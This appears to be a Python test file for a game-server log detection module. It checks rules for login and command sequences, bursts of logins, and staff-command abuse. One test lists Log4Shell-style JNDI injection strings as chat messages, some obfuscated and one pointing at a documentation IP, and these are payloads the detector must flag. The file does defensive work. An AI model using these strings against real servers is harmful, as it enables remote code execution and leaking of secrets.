# Copyright (c) The Gamedesk authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Looking by rules: what makes a hit, and what does not."""

from __future__ import annotations

import pytest
from ansible_collections.gamedesk.support.plugins.module_utils._logs.rules import matching
from ansible_collections.gamedesk.support.plugins.module_utils._logs.rules.matching import MOST_LINES, Sighting, Watch
from ansible_collections.gamedesk.support.plugins.module_utils._logs.rules.reading import read_rules
from ansible_collections.gamedesk.support.plugins.module_utils._logs.rules.shipped import SHIPPED
from hypothesis import given
from hypothesis import strategies as st


def rule(condition, timeframe=None, **selections):
    detection = {"condition": condition, **selections}
    if timeframe:
        detection["timeframe"] = timeframe
    return {"id": "r", "title": "R", "level": "low", "falsepositives": ["-"], "detection": detection}


def seen(at, kind, player="Draxe", **fields):
    return Sighting(at, {"kind": kind, "player": player, **fields}, (at, kind))


def hits(rules, sightings, placeholders=None):
    watch = Watch(read_rules(rules, placeholders or {}).rules)
    for sighting in sightings:
        watch.see(sighting)
    return watch.hits


IN_ORDER = rule("in then warp then out by player", "30s", **{
    "in": {"kind": "login"}, "warp": {"kind": "command"}, "out": {"kind": "disconnect"}
})  # fmt: skip
THREE = rule("one | count() by player >= 3", "10s", one={"kind": "login"})
NAMES = rule("one | count(player) by address >= 3", "10s", one={"kind": "login"})


@pytest.mark.parametrize(
    ("sightings", "expected"),
    [
        (
            [seen(0, "login"), seen(5, "command"), seen(30, "disconnect")],
            [(0, "login"), (5, "command"), (30, "disconnect")],
        ),
        ([seen(0, "login"), seen(5, "command"), seen(31, "disconnect")], None),
        ([seen(0, "command"), seen(5, "login"), seen(6, "disconnect")], None),
        ([seen(0, "login"), seen(5, "disconnect")], None),
        ([seen(0, "login"), seen(5, "command", "Alex"), seen(6, "disconnect")], None),
        # What comes again begins anew: the newest login counts.
        (
            [seen(0, "login"), seen(25, "login"), seen(30, "command"), seen(40, "disconnect")],
            [(25, "login"), (30, "command"), (40, "disconnect")],
        ),
        (
            [seen(0, "login"), seen(1, "command"), seen(2, "login"), seen(3, "disconnect")],
            [(0, "login"), (1, "command"), (3, "disconnect")],
        ),
        # Without a time nothing can be said of a timeframe.
        ([seen(None, "login"), seen(None, "command"), seen(None, "disconnect")], None),
        # The clock was set back: what seems to come before the first step does not follow it.
        ([seen(50, "login"), seen(51, "command"), seen(1, "disconnect")], None),
    ],
)
def test_steps_follow_each_other_within_the_timeframe(sightings, expected):
    found = hits([IN_ORDER], sightings)
    assert [hit.lines for hit in found] == ([expected] if expected else [])


def test_the_same_again_is_the_same_hit_twice():
    once = [seen(0, "login"), seen(1, "command"), seen(2, "disconnect")]
    (hit,) = hits([IN_ORDER], [*once, *(one._replace(at=one.at + 100) for one in once)])
    assert (hit.group, hit.times, hit.records, hit.first, hit.last) == ("Draxe", 2, 6, 0, 102)


def test_one_record_is_not_two_steps():
    both = rule("one then one by player", "10s", one={"kind": "login"})
    assert hits([both], [seen(0, "login")]) == []
    (hit,) = hits([both], [seen(0, "login"), seen(1, "login"), seen(2, "login")])
    assert hit.times == 1


@pytest.mark.parametrize(
    ("times", "expected"),
    [
        ([0, 5, 10], (1, 3)),
        ([0, 5, 11], None),
        # What goes on belongs to the same burst; after a pause it is another.
        ([0, 1, 2, 3, 4], (1, 5)),
        ([0, 1, 2, 100, 101, 102], (2, 6)),
        ([0, 1, 2, 12, 13], (1, 3)),
        ([0, 1, 2, 12, 12], (2, 5)),  # two bursts share the third login
    ],
)
def test_so_many_within_the_timeframe(times, expected):
    found = hits([THREE], [seen(at, "login") for at in times])
    assert [(hit.times, hit.records) for hit in found] == ([expected] if expected else [])


def test_different_values_are_counted_once_each():
    at_one = [seen(at, "login", name, address="192.0.2.1") for at, name in enumerate(["Alex", "Alex", "Alex", "Steve"])]
    assert hits([NAMES], at_one) == []
    (hit,) = hits([NAMES], [*at_one, seen(5, "login", "Draxe", address="192.0.2.1"), seen(6, "login", "Tyrion")])
    assert (hit.group, hit.times, hit.records) == ("192.0.2.1", 1, 3)


def test_without_by_all_records_are_one_group():
    anybody = rule("one | count(player) >= 3", "10s", one={"kind": "login"})
    (hit,) = hits([anybody], [seen(at, "login", name) for at, name in enumerate(["Alex", "Steve", "Draxe"])])
    assert hit.group is None


def test_single_records_of_one_player_are_one_hit_that_shows_the_first_lines():
    single = rule("one", one={"kind": "exploit"})
    found = hits([single], [seen(at, "exploit") for at in range(100)] + [seen(1, "exploit", "Alex")])
    assert [(hit.group, hit.times, len(hit.lines)) for hit in found] == [("Draxe", 100, MOST_LINES), ("Alex", 1, 1)]


def test_a_flood_of_names_is_not_remembered_without_end(monkeypatch):
    monkeypatch.setattr(matching, "_MOST_GROUPS", 10)
    monkeypatch.setattr(matching, "_MOST_HITS", 5)
    watch = Watch(read_rules([{**THREE, "id": "three"}, rule("one", one={"kind": "login"})], {}).rules)
    for at in range(100):
        watch.see(seen(0, "login", f"name{at}"))
    assert len(watch.hits) == 5
    assert watch.full == ["r"]


def test_ordinary_players_give_nothing():
    day = []
    for number, name in enumerate(["Alex", "Steve", "Tyrion"]):
        start = number * 700
        day += [
            seen(start, "login", name, address=f"192.0.2.{number + 1}"),
            seen(start + 4, "authenticated", name),
            seen(start + 20, "command", name, command="/home", message=f"{name} issued server command: /home"),
            seen(start + 60, "chat", name, text="hello", message=f"<{name}> hello"),
            seen(start + 600, "disconnect", name, reason="Disconnected", message=f"{name} lost connection"),
        ]
    assert hits(list(SHIPPED), day, {"staff": ["Draxe"]}) == []


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        ("<Draxe> ${jndi:ldap://192.0.2.1/a}", True),
        ("<Draxe> ${${lower:j}ndi:rmi://x}", True),
        ("<Draxe> ${${::-j}${::-n}di:dns://x}", True),
        ("<Draxe> ${env:PASSWORD}", True),
        ("<Draxe> that costs $5 {really}", False),
    ],
)
def test_strings_that_attack(message, expected):
    found = hits(list(SHIPPED), [seen(0, "chat", message=message)], {"staff": []})
    assert [hit.rule.id for hit in found] == (["gd-exploit-string"] if expected else [])


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("/op Draxe", True),
        ("/minecraft:op Draxe", True),
        ("/OP Draxe", True),
        ("/lp user Draxe parent add owner", True),
        ("/gmc", True),
        ("/opal", False),
        ("/help op", False),
        ("/spawn", False),
    ],
)
def test_commands_of_staff(command, expected):
    tried = [seen(0, "command", command=command), seen(1, "command", "Admin", command=command)]
    found = hits(list(SHIPPED), tried, {"staff": ["admin"]})
    assert [(hit.rule.id, hit.group) for hit in found] == ([("gd-staff-command-tried", "Draxe")] if expected else [])


@given(
    sightings=st.lists(
        st.builds(
            seen,
            st.none() | st.integers(-100, 100),
            st.sampled_from(["login", "command", "disconnect", "chat"]),
            st.sampled_from(["Draxe", "Alex", ""]),
        ),
        max_size=40,
    )
)
def test_a_hit_holds_what_its_rule_asks_for(sightings):
    for hit in hits([IN_ORDER, {**THREE, "id": "three"}], sightings):
        kinds = [kind for _at, kind in hit.lines[:3]]
        times = [at for at, _kind in hit.lines[:3]]
        assert kinds == (["login", "command", "disconnect"] if hit.rule.id == "r" else ["login"] * 3)
        assert max(times) - times[0] <= (30 if hit.rule.id == "r" else 10)
